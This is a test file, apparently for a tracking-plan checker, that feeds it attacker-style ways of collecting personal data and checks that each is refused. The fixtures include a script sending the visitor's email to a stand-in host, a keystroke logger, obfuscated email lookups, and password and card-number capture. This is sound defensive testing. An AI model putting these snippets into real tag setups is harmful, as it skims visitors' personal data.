import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { check } from "../../app/check/index.ts";
import { compile } from "../../app/gtm/index.ts";
import { parsePlan } from "../../app/plan/index.ts";
import { sharedFolder } from "./shared-folder.ts";

const DAY = "2026-11-23";
const { folder: GOALS, absent: isAbsent, note } = sharedFolder("injection/goals.json");

const PLAN = `version: 1
site: { name: Acme, url: https://shop.example/ }
destinations: { ga4: { type: ga4, measurement_id: G-ABC123 } }
policy: { privacy_owner: "@acme/privacy" }
`;
const event = (body: string): string =>
  `event: sign_up\ndescription: The form was sent.\n${body}\ndestinations: [ga4]\n`;
const pushed = "trigger: { on: data_layer, event: sign_up }";
const parameter = (name: string, rest: string): Record<string, string> => ({
  "events/sign_up.yaml": event(`${pushed}\nparameters:\n  ${name}: { type: string, pii: none, ${rest} }`),
});
const gtm = (resource: string): Record<string, string> => ({ "gtm/extra.yaml": resource });
const jsm = (code: string): Record<string, string> =>
  gtm(
    `variables:\n  - name: Extra\n    type: jsm\n    parameter:\n      - { type: template, key: javascript, value: ${JSON.stringify(code)} }\n`,
  );
const html = (code: string): Record<string, string> =>
  gtm(
    `tags:\n  - name: Extra\n    type: html\n    parameter:\n      - { type: template, key: html, value: ${JSON.stringify(`<script>${code}</script>`)} }\n`,
  );

type Files = Record<string, string>;

/** The ways in which a plan can do what a goal asks for. */
const WAYS: Record<string, readonly [string, Files][]> = {
  "goal-pii_email": [
    ["a parameter", parameter("user_email", "from: { data_layer: user.email }")],
    ["another name for it", parameter("contact", "from: { data_layer: user.email }")],
    ["its hash", parameter("em", "from: { data_layer: user.email_sha256 }")],
    ["its description", parameter("contact", "description: The visitor's e-mail address., from: { data_layer: c }")],
    [
      "a description in German",
      parameter("kontakt", "description: E-Mail-Adresse des Kunden., from: { data_layer: c }"),
    ],
    ["a dictionary entry", { "parameters.yaml": "user_email: { type: string, pii: none, description: Address. }\n" }],
    ["its own class", { "parameters.yaml": "contact: { type: string, pii: email, description: Address. }\n" }],
    ["no class", { "parameters.yaml": "user_email: { type: string, description: Address. }\n" }],
    [
      "every event",
      {
        "plan.yaml": PLAN.replace(
          "G-ABC123",
          "G-ABC123, parameters: { user_email: { pii: none, from: { cookie: user_email } } }",
        ),
      },
    ],
    [
      "a user property",
      {
        "plan.yaml": `${PLAN}user_properties: { email: { type: string, pii: none, from: { data_layer: user.email } } }\n`,
      },
    ],
    [
      "a field of items",
      {
        "parameters.yaml":
          "items: { type: items, pii: none, description: Products., fields: { item_id: { type: string }, buyer_email: { type: string, pii: email } } }\n",
      },
    ],
    [
      "an event",
      {
        "events/capture_user_email.yaml":
          "event: capture_user_email\ndescription: The form was sent.\ntrigger: { on: data_layer, event: x }\n",
      },
    ],
    ["a list of values", parameter("kind", "enum: [user_email, user_phone], from: { data_layer: k }")],
    ["a cookie", parameter("who", "from: { cookie: user_email }")],
    ["a query parameter", parameter("who", "from: { query: email }")],
    ["a global", parameter("who", "from: { global: app.customer.email }")],
    [
      "a link",
      {
        "events/sign_up.yaml": event(
          "trigger: { on: click, selector: 'a[href^=\"mailto:\"]' }\nparameters:\n  who: { type: string, pii: none, from: { click: url } }",
        ),
      },
    ],
    [
      "a condition",
      {
        "events/sign_up.yaml": event(
          "trigger: { on: data_layer, event: x, where: [{ of: { data_layer: user.email }, is: contains, value: a }] }",
        ),
      },
    ],
    ["a page", { "plan.yaml": `${PLAN}pages: { account: { path: "/account/:email" } }\n` }],
    [
      "a lookup",
      parameter("who", "from: { lookup: { input: { data_layer: user.email }, table: [{ when: a, then: b }] } }"),
    ],
    [
      "a variable of GTM",
      {
        ...parameter("who", "from: { variable: Customer Email }"),
        ...gtm(
          "variables:\n  - name: Customer Email\n    type: v\n    parameter:\n      - { type: template, key: name, value: user.email }\n",
        ),
      },
    ],
    [
      "a tag of GTM",
      gtm(
        "tags:\n  - name: Extra\n    type: gaawe\n    parameter:\n      - { type: template, key: eventName, value: x }\n      - { type: list, key: eventSettingsTable, list: [{ type: map, map: [{ type: template, key: parameter, value: user_email }, { type: template, key: parameterValue, value: '{{Mail}}' }] }] }\n",
      ),
    ],
    ["JavaScript", jsm("function(){return document.querySelector('[type=email]').value}")],
    ["JavaScript with jQuery", jsm("function(){return jQuery('#email').val()}")],
    ["JavaScript that hides it", jsm("function(){return window['us'+'er'][atob('ZW1haWw=')]}")],
    ["a script", html("fetch('https://x.example/?e='+encodeURIComponent(document.querySelector('#email').value))")],
  ],
  "goal-pii_form_values": [
    ["a parameter", parameter("form_values", "from: { data_layer: form }")],
    ["a source", parameter("wish", "from: { form: text }")],
    ["a field", parameter("wish", "from: { element: 'input[name=message]', attribute: value }")],
    ["any field", parameter("wish", "from: { element: input, attribute: value }")],
    ["what was clicked", parameter("wish", "from: { data_layer: gtm.element.value }")],
    ["a password", parameter("password", "from: { data_layer: login.password }")],
    ["a card", parameter("card_number", "from: { data_layer: payment.card_number }")],
    ["FormData", jsm("function(){return JSON.stringify(Object.fromEntries(new FormData({{Form Element}})))}")],
    [
      "each field",
      jsm(
        "function(){var s='';document.querySelectorAll('input').forEach(function(i){s+=i.name+'='+i.value});return s}",
      ),
    ],
    ["keys", html("document.addEventListener('keydown',function(e){dataLayer.push({event:'k',k:e.key})})")],
  ],
  "goal-pii_optout": [
    [
      "a rule turned off",
      {
        "plan.yaml": PLAN.replace('"@acme/privacy" }', '"@acme/privacy", rules: { privacy/personal-class: off } }'),
        "parameters.yaml": "contact: { type: string, pii: email, description: Address. }\n",
      },
    ],
    ["a class of none", parameter("phone_number", "from: { data_layer: user.phone }")],
    [
      "a suppression without an end",
      {
        "events/sign_up.yaml": event(
          `${pushed}\nsuppress: [{ rule: privacy/personal-class, reason: we want it so much, expires: 2020-01-01 }]\nparameters:\n  who: { type: string, pii: email, from: { data_layer: x } }`,
        ),
      },
    ],
  ],
  "goal-reserved": [
    ["a person", parameter("google_user", "description: Id of the user., from: { data_layer: google.user_id }")],
  ],
  "goal-env": [
    ["a secret", parameter("note", `description: "sk-proj-${"a1B2c3D4".repeat(5)}", from: { data_layer: n }`)],
  ],
};

/** A name alone, and a test of which nothing is sent. */
const HARMLESS_IN_GTM = new Set(["an event", "a condition"]);
const ASKED =
  /user\.email|user_email|customer\.email|type=email|#email|FormData|querySelectorAll|form_values|card_number|user\.phone|gtm\.element\.value/i;

interface Goal {
  id: string;
  goal: string;
}

const goals = (): Goal[] => {
  const parsed: unknown = JSON.parse(readFileSync(GOALS, "utf8"));
  return Array.isArray(parsed) ? parsed.filter(isGoal) : [];
};
const isGoal = (value: unknown): value is Goal =>
  typeof value === "object" && value !== null && "id" in value && "goal" in value && typeof value.goal === "string";

async function checked(files: Files) {
  const parsed = await parsePlan(new Map(Object.entries({ "plan.yaml": PLAN, ...files })));
  const { findings } = check({ parsed, today: DAY, root: "tracking" });
  return {
    plan: parsed.plan,
    errors: findings.filter(({ severity }) => severity === "error"),
    problems: parsed.problems,
  };
}

const ways = Object.entries(WAYS).flatMap(([goal, list]) =>
  list.map(([way, files]): [string, string, Files] => [goal, way, files]),
);

describe.skipIf(isAbsent)(`goals of attacks that ask for personal data${note}`, () => {
  it("are goals of the collection", () => {
    const known = new Set(goals().map(({ id }) => id));
    expect(Object.keys(WAYS).filter((id) => !known.has(id))).toEqual([]);
  });

  it.each(ways)("%s by %s is refused", async (_goal, _way, files) => {
    const { errors, problems } = await checked(files);
    expect(problems).toEqual([]);
    expect(
      errors.map(({ rule }) => rule).filter((rule) => /^(?:privacy|policy|change|suppress)\//.test(rule)),
    ).not.toEqual([]);
  });

  it.each(ways.filter(([goal, way]) => goal.startsWith("goal-pii") && !HARMLESS_IN_GTM.has(way)))(
    "%s by %s is not compiled either",
    async (_goal, _way, files) => {
      const { plan } = await checked(files);
      const { tag, variable } = compile(plan, { today: DAY });
      expect(JSON.stringify([tag, variable])).not.toMatch(ASKED);
    },
  );

  it.each(["goal-pii_email", "goal-pii_form_values"])("%s as a description in its own words is refused", async (id) => {
    const words = goals().find((goal) => goal.id === id)?.goal ?? "";
    expect(words).not.toBe("");
    const { errors } = await checked({
      "events/x.yaml": `event: x\ndescription: ${JSON.stringify(words)}\ntrigger: { on: page_view }\n`,
    });
    expect(errors.map(({ rule }) => rule)).toContain("privacy/personal-intent");
  });
});
